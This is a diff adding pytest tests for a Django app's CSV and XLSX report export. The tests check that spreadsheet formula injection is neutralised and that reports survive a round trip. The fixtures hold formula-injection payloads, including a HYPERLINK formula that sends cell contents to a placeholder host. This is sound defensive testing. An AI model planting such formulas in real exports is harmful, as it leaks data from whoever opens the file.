@@ -1,0 +1,144 @@
+"""Reports as CSV and XLSX: B16 formula safety, the round trip, and the full results."""
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.contrib.auth import get_user_model
+
+from tests.people import make_people, make_upload
+from uploads import intake, reports
+from uploads.models import Row
+
+pytestmark = pytest.mark.django_db
+
+B16_COMMENTS = [
+    "=1+1", "+SUM(1;2)", "-2+3", "@SUM(1+1)", '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+    "\t=1+1", "ticket id itself starts with a minus", "====== 2", "=not a formula at all",
+]
+
+
+@pytest.fixture
+def b16(shared):
+    owner = get_user_model().objects.create_user("maria")
+    path = shared / "cases" / "B16-formula-comments.csv"
+    return intake.create_upload(owner, path, path.name, intake.ReadOptions())
+
+
+def _csv_report(upload) -> str:
+    out = io.StringIO()
+    reports.write_report(upload, "errors", "csv", out)
+    return out.getvalue()
+
+
+def _xlsx_report(upload, kind: str = "errors") -> bytes:
+    out = io.BytesIO()
+    reports.write_report(upload, kind, "xlsx", out)
+    return out.getvalue()
+
+
+def test_it_reads_b16_as_written(b16):
+    rows = list(b16.rows.order_by("number"))
+    assert [row.cells[4] for row in rows] == B16_COMMENTS
+    assert rows[6].cells[0] == "-1507"
+    assert {row.status for row in rows} == {Row.Status.INVALID}
+
+
+def test_it_neutralises_every_formula_like_cell_in_the_csv_report(b16):
+    lines = list(csv.reader(io.StringIO(_csv_report(b16))))
+    assert lines[0] == ["ticket_id", "agent_id", "score", "submitted_at", "comment", "row", "status", "reason"]
+    assert [line[4] for line in lines[1:]] == [
+        "'=1+1", "'+SUM(1;2)", "'-2+3", "'@SUM(1+1)", """'=HYPERLINK("http://example.invalid/?x="&A1,"open")""",
+        "'\t=1+1", "ticket id itself starts with a minus", "'====== 2", "'=not a formula at all",
+    ]
+    assert [line[0] for line in lines[1:]][6] == "'-1507"
+    assert [line[5] for line in lines[1:]] == [str(n) for n in range(2, 11)]
+    assert {line[6] for line in lines[1:]} == {"Invalid"}
+
+
+def test_it_writes_string_cells_never_formulas_in_the_xlsx_report(b16):
+    data = _xlsx_report(b16)
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    comments = [sheet.cell(row=r, column=5) for r in range(2, 11)]
+    assert [cell.value for cell in comments] == B16_COMMENTS
+    assert {cell.data_type for cell in comments} == {"s"}
+    assert sheet.cell(row=8, column=1).value == "-1507"
+
+
+def test_it_sends_the_original_text_to_the_api(b16):
+    row = b16.rows.get(number=2)
+    intake.edit_cell(row, 2, "5")
+    row.refresh_from_db()
+    assert row.status == Row.Status.VALID
+    assert row.item["comment"] == "=1+1"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_it_maps_a_reuploaded_report_and_gives_back_the_original_text(b16, fmt, tmp_path):
+    path = tmp_path / f"errors.{fmt}"
+    if fmt == "csv":
+        path.write_text(_csv_report(b16), encoding="utf-8")
+    else:
+        path.write_bytes(_xlsx_report(b16))
+    again = intake.create_upload(b16.owner, path, path.name, intake.ReadOptions())
+
+    assert again.columns == ["ticket_id", "agent_id", "score", "submitted_at", "comment"]
+    assert again.preset_name == b16.preset_name
+    assert again.preset["columns"] == b16.preset["columns"]
+    assert [row.cells for row in again.rows.order_by("number")] == [
+        row.cells for row in b16.rows.order_by("number")
+    ]
+    assert any("error report" in notice for notice in again.notices)
+
+
+def test_it_never_piles_apostrophes_up():
+    for text in ["=1+1", "'=1+1", "''=1+1", "'plain", "plain", "-", "'", "\r=x"]:
+        assert reports.unneutralise(reports.neutralise(text)) == text
+    assert reports.neutralise("'=1+1") == "''=1+1"
+    assert reports.unneutralise("'plain") == "'plain"
+
+
+def test_it_leaves_a_file_that_is_not_our_report_alone(tmp_path):
+    path = tmp_path / "own.csv"
+    path.write_text("ticket_id,agent_id,score,submitted_at,comment\nT-1,A-1,5,2026-03-08T07:30:00Z,'=1+1\n")
+    upload = intake.create_upload(get_user_model().objects.create_user("maria"), path, path.name,
+                                  intake.ReadOptions())
+    assert upload.rows.get().cells[4] == "'=1+1"
+
+
+def test_it_writes_the_full_results_with_each_item_as_sent():
+    people = make_people()
+    upload = make_upload(people["maria"], people["alpha"], rows=2)
+    Row.objects.filter(upload=upload, number=2).update(result=Row.Result.CREATED, maestro_id="mq-2")
+    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.FAILED, result_message="Failed: ticket not found")
+    out = io.StringIO()
+    assert reports.write_report(upload, "results", "csv", out) == 2
+    lines = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert lines[0] == {
+        "row": "2", "status": "Valid", "result": "Created", "maestro_id": "mq-2", "message": "",
+        "submitted_at": "2026-10-01T08:00:00.000Z", "ticket_id": "T-2", "agent_id": "A-01", "agent_email": "",
+        "score": "5", "comment": "great help 2", "score_label": "", "min_score": "1", "max_score": "5",
+        "clarifying_answers": "",
+    }
+    assert (lines[1]["result"], lines[1]["message"]) == ("Failed", "Failed: ticket not found")
+    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx_report(upload, "results"))).active
+    assert [c.value for c in sheet[2]][:5] == ["2", "Valid", "Created", "mq-2", None]
+
+
+def test_it_lists_every_row_not_created_in_the_error_report():
+    people = make_people()
+    upload = make_upload(people["maria"], people["alpha"], rows=4)
+    Row.objects.filter(upload=upload, number=2).update(result=Row.Result.CREATED, maestro_id="mq-2")
+    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.UNCONFIRMED, result_message="not confirmed")
+    Row.objects.filter(upload=upload, number=4).update(status=Row.Status.EXCLUDED)
+    Row.objects.filter(upload=upload, number=5).update(status=Row.Status.DUPLICATE, note="identical to row 2")
+    lines = list(csv.reader(io.StringIO(_csv_report(upload))))
+    assert [line[-3:] for line in lines[1:]] == [
+        ["3", "Not confirmed", "not confirmed"], ["4", "Excluded", "Excluded"], ["5", "Duplicate", "identical to row 2"],
+    ]
